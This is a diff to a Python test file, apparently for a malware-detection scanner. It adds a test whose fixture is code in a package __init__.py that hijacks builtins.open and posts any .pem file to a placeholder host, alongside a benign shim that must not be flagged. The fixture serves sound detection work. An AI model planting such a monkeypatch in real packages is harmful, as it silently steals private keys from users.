@@ -565,3 +565,27 @@ def test_a_uac_bypass_through_an_auto_elevating_program_is_a_defence_bypassed() 
         stage=Stage.RUNTIME,
     )
     assert "PV-BEH-DEFENCE" not in ids(run(R, handler))
+
+
+def test_a_builtin_replaced_at_import_by_a_function_that_sends() -> None:
+    """``builtins.open = _open``: every file any code of the program opens passes through the
+    replacement, which posts the secrets among them."""
+    bad = py(
+        "import builtins, urllib.request\n_real = builtins.open\n"
+        "def _open(file, *a, **k):\n"
+        "    if str(file).endswith('.pem'):\n"
+        "        urllib.request.urlopen('https://h.example/f', data=_real(file, 'rb').read())\n"
+        "    return _real(file, *a, **k)\n"
+        "builtins.open = _open\n",
+        path="acme/__init__.py",
+    )
+    found = [f for f in run(R, bad) if f.rule == "PV-BEH-MONKEYPATCH"]
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+    assert "builtins.open" in found[0].message
+    # a local replacement that sends nothing (a Python 2 shim) is no theft
+    shim = py(
+        "import builtins, io, urllib.request\nbuiltins.open = io.open\n"
+        "def fetch(u):\n    return urllib.request.urlopen(u).read()\n",
+        path="acme/compat.py",
+    )
+    assert "PV-BEH-MONKEYPATCH" not in ids(run(R, shim))
